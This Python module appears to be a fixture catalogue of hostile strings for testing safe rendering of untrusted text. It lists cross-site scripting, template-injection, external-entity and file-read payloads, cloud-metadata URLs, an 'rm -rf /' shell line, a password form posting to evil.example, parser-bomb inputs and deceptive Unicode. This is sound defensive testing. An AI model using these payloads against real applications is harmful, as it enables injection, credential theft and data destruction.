"""Texts that try to be more than text. Each must be shown as it stands (or as `shown` says)."""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class HostileText:
    """A text for every field.

    `shown` are the parts that must be readable where it is read as Markdown; without them, all of it.
    """

    id: str
    text: str
    shown: tuple[str, ...] = ()

    @property
    def parts(self) -> tuple[str, ...]:
        return self.shown or (self.text,)


def _markup(label: str, text: str, *shown: str) -> HostileText:
    return HostileText(f"markup-{label}", text, shown)


def _link(label: str, text: str, *shown: str) -> HostileText:
    return HostileText(f"link-{label}", text, shown)


def _template(label: str, text: str, *shown: str) -> HostileText:
    return HostileText(f"template-{label}", text, shown)


def _bomb(label: str, text: str, *shown: str) -> HostileText:
    return HostileText(f"bomb-{label}", text, shown)


def _letters(label: str, text: str, *shown: str) -> HostileText:
    return HostileText(f"letters-{label}", text, shown)


MARKUP = (
    _markup("script", "<script>alert(1)</script>"),
    _markup("script-in-capitals", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>"),
    _markup("script-with-space", "<script >alert(1)</script >"),
    _markup("script-closed-by-attribute", '"><script>alert(1)</script>'),
    _markup("script-closed-by-single-quote", "'><script>alert(1)</script>"),
    _markup("script-end", "</script><img src=x onerror=alert(1)>"),
    _markup("script-end-and-comment", "</script><!--<script>alert(1)//-->"),
    _markup("style-end", "</style><script>alert(1)</script>"),
    _markup("title-end", "</title><script>alert(1)</script>"),
    _markup("textarea-end", "</textarea><script>alert(1)</script>"),
    _markup("main-end", "</main></body></html><script>alert(1)</script>"),
    _markup("image-onerror", "<img src=x onerror=alert(1)>"),
    _markup("image-remote", '<img src="http://169.254.169.254/latest/meta-data/">'),
    _markup("image-file", '<img src="file:///etc/passwd">'),
    _markup("svg-onload", "<svg/onload=alert(1)>"),
    _markup("svg-script", "<svg><script>alert(1)</script></svg>"),
    _markup("svg-animate", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    _markup("math", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    _markup("iframe", "<iframe src=javascript:alert(1)></iframe>"),
    _markup("iframe-srcdoc", "<iframe srcdoc='<script>alert(1)</script>'></iframe>"),
    _markup("object", "<object data=data:text/html,x></object>"),
    _markup("embed", "<embed src=//evil.example/x.swf>"),
    _markup("base", "<base href=//evil.example/>"),
    _markup("meta-refresh", '<meta http-equiv=refresh content="0;url=//evil.example">'),
    _markup("meta-policy", "<meta http-equiv=Content-Security-Policy content='default-src *'>"),
    _markup("link-stylesheet", "<link rel=stylesheet href=//evil.example/x.css>"),
    _markup("link-attachment", '<link rel=attachment href="file:///etc/passwd">'),
    _markup("form", "<form action=//evil.example><input name=p><button>Log in</button></form>"),
    _markup("form-action", "<button formaction=javascript:alert(1)>x</button>"),
    _markup("details-ontoggle", "<details open ontoggle=alert(1)>"),
    _markup("video", "<video><source onerror=alert(1)></video>"),
    _markup("marquee", "<marquee onstart=alert(1)>x</marquee>"),
    _markup("template", "<template><script>alert(1)</script></template>"),
    _markup("noscript", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    _markup("custom-element", "<x-y onclick=alert(1)>x</x-y>"),
    _markup("attribute-break", '" onmouseover="alert(1)'),
    _markup("attribute-break-single", "' onfocus='alert(1)' autofocus='"),
    _markup("attribute-break-backtick", "` onload=alert(1) `", "onload=alert(1)"),
    _markup("attribute-style", '" style="position:fixed;inset:0;background:url(//evil.example)'),
    _markup("anchor-onclick", '<a href="#" onclick="alert(1)">x</a>'),
    _markup("anchor-javascript", '<a href="javascript:alert(1)">x</a>'),
    _markup("anchor-attachment", '<a rel=attachment href="file:///etc/passwd">x</a>'),
    _markup("bold", "<b>bold</b> and <br> and <i>more"),
    _markup("comment", "<!-- --><script>alert(1)</script>"),
    _markup("comment-open", "<!-- never closed"),
    _markup("comment-odd-end", "<!--><script>alert(1)</script>-->"),
    _markup("cdata", "<![CDATA[<script>alert(1)</script>]]>"),
    _markup("doctype", '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'),
    _markup("entity-of-our-own", "&e; &xxe; %xxe;"),
    _markup("processing-instruction", '<?xml version="1.0"?><?php system("id") ?>'),
    _markup("entities", "&lt;script&gt;alert(1)&lt;/script&gt;", "<script>alert(1)</script>"),
    _markup("entities-twice", "&amp;lt;script&amp;gt;", "&lt;script&gt;"),
    _markup("entity-numbers", "&#60;script&#62;alert(1)&#x3c;/script&#x3e;", "<script>alert(1)</script>"),
    _markup("style", "<style>*{display:none}</style>"),
    _markup("style-import", "<style>@import url(//evil.example/x.css);</style>"),
    _markup("css-end", "}</style> body{background:url(//evil.example)} x{"),
    _markup("css-comment", "*/ body { display: none } /*", "/ body { display: none } /"),
    _markup("css-escape", "\\3c script\\3e"),
    _markup("half-open", "<"),
    _markup("half-open-tag", "<img"),
    _markup("half-open-end", "</"),
    _markup("word-xml", "</w:t></w:r></w:p><w:p><w:r><w:instrText>INCLUDETEXT /etc/passwd</w:instrText>"),
    _markup("word-field", "{ INCLUDEPICTURE http://evil.example/x.png }"),
    _markup("vcard-injection", "Ada\\nTEL:+1-555-0100"),
    _markup("vcard-end", "END:VCARD BEGIN:VCARD FN:Mallory"),
    _markup("vcard-separators", "a;b,c\\d:e"),
    _markup("json-end", '"}]}</script>{"@type":"Person"'),
    _markup("spreadsheet", '=HYPERLINK("http://evil.example","x")'),
    _markup("shell", "$(id) `id` ; rm -rf / && | > x", "; rm -rf / && | > x"),
    _markup("header", "Ada Set-Cookie: a=b"),
)  # fmt: skip

LINKS = (
    _link("javascript", "[click](javascript:alert(1))", "click", "javascript:alert(1)"),
    _link("javascript-capitals", "[click](JaVaScRiPt:alert(1))", "click", "JaVaScRiPt:alert(1)"),
    _link("javascript-entity", "[click](&#106;avascript:alert(1))", "click"),
    _link("javascript-tab", "[click](java&#9;script:alert(1))", "click"),
    _link("javascript-newline", "[click](java&NewLine;script:alert(1))", "click"),
    _link("javascript-control", "[click](&#1;javascript:alert(1))", "click"),
    _link("javascript-encoded", "[click](javascript%3Aalert(1))", "click"),
    _link("javascript-angle", "[click](<javascript:alert(1)>)", "click", "javascript:alert(1)"),
    _link("javascript-reference", "[click][1] [1]: javascript:alert(1)", "click", "javascript:alert(1)"),
    _link("javascript-bare", "javascript:alert(document.cookie)"),
    _link("javascript-autolink", "<javascript:alert(1)>"),
    _link("javascript-slashes", "javascript://example.org/%0aalert(1)"),
    _link("vbscript", "[click](vbscript:msgbox(1))", "click", "vbscript:msgbox(1)"),
    _link("vbscript-bare", "vbscript:msgbox(1)"),
    _link("data-html", "[click](data:text/html;base64,PHNjcmlwdD4=)", "click"),
    _link("data-bare", "data:text/html,hello"),
    _link("data-svg", "data:image/svg+xml,svg"),
    _link("file", "[click](file:///etc/passwd)", "click", "file:///etc/passwd"),
    _link("file-bare", "file:///etc/passwd"),
    _link("blob", "blob:https://evil.example/1"),
    _link("filesystem", "filesystem:https://evil.example/temporary/x"),
    _link("feed", "feed:javascript:alert(1)"),
    _link("view-source", "view-source:javascript:alert(1)"),
    _link("word", "ms-word:ofe|u|http://evil.example/x.docx"),
    _link("search", "search-ms:query=x"),
    _link("intent", "intent://x#Intent;scheme=http;end"),
    _link("about", "about:blank"),
    _link("jar", "jar:http://evil.example!/x"),
    _link("ftp", "ftp://evil.example/x"),
    _link("scheme-relative", "[click](//evil.example/x)", "click"),
    _link("scheme-relative-bare", "//evil.example/x"),
    _link("backslashes", "\\\\evil.example\\x", "evil.example"),
    _link("path", "../../etc/passwd"),
    _link("path-absolute", "/etc/passwd"),
    _link("metadata-service", "http://169.254.169.254/latest/meta-data/"),
    _link("credentials", "https://user:password@evil.example/"),
    _link("odd-port", "https://example.org:99999999/x"),
    _link("open-bracket-host", "http://[::1"),
    _link("title-break", '[click](https://example.org "onmouseover=alert(1)")', "click"),
    _link("quote-break", '[click](https://example.org/"onmouseover="alert(1))', "click"),
    _link("text-with-markup", "[<img src=x onerror=x>](https://example.org)", "<img src=x onerror=x>"),
    _link("image", "![alt text](https://evil.example/pixel.png)", "alt text"),
    _link("image-in-link", "[![alt text](x.png)](javascript:alert(1))", "alt text"),
    _link("mailto-headers", "mailto:a@example.org?cc=b@example.org&attach=/etc/passwd"),
    _link("mail-injection", "ada@example.org%0aBcc:x@evil.example"),
    _link("mail-with-tag", '"<script>"@example.org'),
    _link("tel", "tel:*#06#"),
)  # fmt: skip

TEMPLATES = (
    _template("sum", "{{7*7}}"),
    _template("class", "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{{ ''.", "() }}"),
    _template("config", "{{config}} {{self}} {{request}}"),
    _template("statement", "{% for x in range(10) %}x{% endfor %}"),
    _template("open", "{{"),
    _template("open-statement", "{%"),
    _template("comment", "{# hidden #}"),
    _template("raw", "{% endraw %}{{7*7}}{% raw %}"),
    _template("include", "{% include '/etc/passwd' %}"),
    _template("line-statement", "# for x in y"),
    _template("percent-format", "%s %d %(name)s %n %x"),
    _template("brace-format", "{0} {name} {0.__class__}", "{0} {name} {0."),
    _template("dollar", "${7*7} $HOME $(id)"),
    _template("erb", "<%= 7*7 %>"),
    _template("angular", "{{constructor.constructor('alert(1)')()}}"),
    _template("latex", "\\input{/etc/passwd} \\write18{id} $$x$$"),
    _template("typst", '#read("/etc/passwd") #eval("1")'),
)  # fmt: skip

BOMBS = (
    _bomb("opening-brackets", "[" * 5000, "[" * 40),
    _bomb("brackets-and-parentheses", "[](" * 1500, "["),
    _bomb("stars", "*" * 5000, "*"),
    _bomb("star-letters", "*a " * 1500, "a"),
    _bomb("star-nests", "*a **a " * 700, "a"),
    _bomb("underscores", "_" * 5000, "_"),
    _bomb("underscore-letters", "_a_" * 1500, "a"),
    _bomb("backticks", "`" * 5000, "`" * 40),
    _bomb("backticks-growing", "".join("e" + "`" * n for n in range(1, 90)), "e"),
    _bomb("backslashes", "\\" * 5000, "\\" * 40),
    _bomb("quotes", "> " * 2000 + "deep", "deep"),
    _bomb("lists", "- " * 2000 + "deep", "deep"),
    _bomb("lists-indented", "\n".join(" " * (2 * n) + "- x" for n in range(100)), "x"),
    _bomb("numbers", "1. " * 1500 + "deep", "deep"),
    _bomb("headings", "# " * 2000 + "deep", "deep"),
    _bomb("autolinks", "<http:" * 800, "http:"),
    _bomb("entities", "&amp;" * 1000, "&"),
    _bomb("tags", "<a>" * 1600, "<a>"),
    _bomb("comments", "<!--" * 1200, "<!--"),
    _bomb("references", "".join(f"[{n}]: x\n" for n in range(600)), "x"),
    _bomb("link-destinations", "[a](<b" * 800, "a"),
    _bomb("tables", "|a" * 2000 + "\n" + "|-" * 2000, "a"),
    _bomb("line-breaks", "a\n" * 2000, "a"),
    _bomb("hard-breaks", "a  \n" * 1200, "a"),
    _bomb("rules", "---\n" * 1200 + "end", "end"),
)  # fmt: skip

LETTERS = (
    _letters("right-to-left-override", "safe\u202egpj.exe"),
    _letters("isolates-open", "\u2066\u2067\u2068never closed"),
    _letters("embeddings-open", "\u202a\u202bnever closed"),
    _letters("zero-width", "a\u200bb\u200cc\u200dd\ufeffe"),
    _letters("soft-hyphens", "ex\u00adtra\u00ador\u00addi\u00adnary"),
    _letters("line-separators", "one\u2028two\u2029three"),
    _letters("object-replacement", "a\ufffc\ufffdb"),
    _letters("tags", "a\U000e0041\U000e0042b"),
    _letters("private-use", "a\ue000\U000f0000b"),
    _letters("emoji", "👩\u200d💻 🇪🇺 👍🏽 \u2764\ufe0f 1\ufe0f\u20e3"),
    _letters("zalgo", "Z" + "\u0300\u0301\u0316\u0317\u0334" * 12 + "algo"),
    _letters("mathematical", "\U0001d400\U0001d401 \u2211\u222b\u221a\u2200x\u2208\u211d \u2264\u2260\u2248"),
    _letters("greek-cyrillic", "Ελληνικά Русский Ђорђе"),
    _letters("arabic-hebrew", "العربية עברית mixed 123"),
    _letters("chinese-japanese-korean", "张三 日本語 한국어"),
    _letters("indic-thai", "हिन्दी தமிழ் ไทย"),
    _letters("decomposed", "e\u0301a\u0308"),
    _letters("long-word", "W" * 300),
    _letters("long-number", "9" * 300),
    _letters("long-name", "Adalberta Maximiliana Example-Sample " * 3 + "End"),
    _letters("long-address", "https://example.org/" + "a" * 280),
    _letters("spaces-of-all-kinds", "a\u00a0b\u2003c\u3000d\u202fe", "a", "e"),
    _letters("tabs", "a\tb", "a", "b"),
    _letters("many-line-breaks", "a\n\n\n\n\n\nb", "a", "b"),
    _letters("carriage-return", "a\r\nb\rc", "a", "b", "c"),
    _letters("ligatures-and-kerning", "ﬁ ﬂ \ufb03 ſt ŉ ǆ"),
    _letters("fractions", "\u00bd \u2153 x\u00b2 H\u2082O \u2103 \u2116"),
    _letters("none", "None"),
    _letters("null-word", "null undefined NaN true false"),
    _letters("zero", "0"),
    _letters("minus", "-"),
    _letters("dots", "..."),
    _letters("only-punctuation", "!?;:,."),
    _letters("only-marks", "a\u0301\u0301\u0301"),
)  # fmt: skip

HOSTILE_TEXTS = (*MARKUP, *LINKS, *TEMPLATES, *BOMBS, *LETTERS)
